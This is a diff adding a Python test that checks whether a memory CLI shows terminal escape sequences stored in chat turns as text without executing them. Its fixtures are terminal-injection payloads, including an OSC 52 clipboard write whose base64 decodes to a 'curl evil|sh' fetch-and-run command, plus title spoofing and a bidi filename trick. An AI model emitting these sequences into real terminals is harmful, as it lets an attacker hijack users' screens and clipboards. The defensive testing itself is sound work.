@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import unicodedata
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -208,3 +209,41 @@ def test_a_listed_user_id_typed_back_forgets_that_user_and_no_other(tmp_path: Pa
         done.append(word)
     refused = run("forget", "--user-json", "not json", "--yes")
     assert refused.returncode == EXIT_INPUT and "'not json' is not a JSON string" in refused.stderr
+
+
+#: what a terminal obeys or reorders rather than prints (a red-team pass found each in `memory search` output)
+TERMINAL_ORDERS = {"title": "\x1b]0;PWNED\x07", "clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
+                   "clear": "\x1b[2J\x1b[H", "hide": "\b" * 6 + "HIDDEN", "c1": "\x9b2J\x9d0;T\x9c", "cr": "\rFAKE",
+                   "bidi": "\u202eexe.txt\u202c", "del": "x\x7fy"}
+
+
+def test_what_a_stored_turn_tells_a_terminal_is_shown_not_obeyed(capsys: pytest.CaptureFixture[str]) -> None:
+    """An assistant quoting coloured terminal output or a web page stores escape sequences: the CLI prints them as
+    escapes (``\\x1b]0;``) and its JSON escapes them, so the text reads back exactly."""
+    session = SessionInfo(session_id="s\x1b]0;SESSION\x07", user_id="carol", chat_id="dm")
+    provider = LocalProvider({}, hermes_home=home())
+    try:
+        for n, (name, order) in enumerate(TERMINAL_ORDERS.items()):
+            provider.sync_turn(Turn(session=session, turn_number=n, user_text=f"pizza {name} {order} end",
+                                    assistant_text="noted"))
+        assert provider.flush(10)
+    finally:
+        provider.shutdown()
+    orders = {c for c in "".join(TERMINAL_ORDERS.values()) if unicodedata.category(c) in ("Cc", "Cf")}
+    assert len(orders) == 10  # ESC BEL BS CR DEL CSI OSC ST, two bidi controls
+
+    assert main(["memory", "search", "pizza", "--user", "carol", "--limit", "20"]) == 0
+    out = capsys.readouterr().out
+    assert out.count("pizza") == len(TERMINAL_ORDERS)  # every one is shown
+    assert not orders & set(out), sorted(orders & set(out))
+    assert "\\x1b]0;PWNED\\x07" in out and "\\u202eexe.txt" in out and "session s\\x1b]0;SESSION\\x07" in out
+
+    for command in (["memory", "search", "pizza", "--user", "carol", "--limit", "20", "--json"],
+                    ["memory", "export", "--user", "carol"]):
+        assert main(command) == 0
+        out = capsys.readouterr().out
+        assert not orders & set(out), (command, sorted(orders & set(out)))
+        rows = json.loads(out) if "--json" in command else [json.loads(line) for line in out.splitlines()]
+        said = {row["user_text"] for row in rows}
+        assert said == {f"pizza {name} {order} end" for name, order in TERMINAL_ORDERS.items()}  # exactly
+        assert {row["session_id"] for row in rows} == {session.session_id}
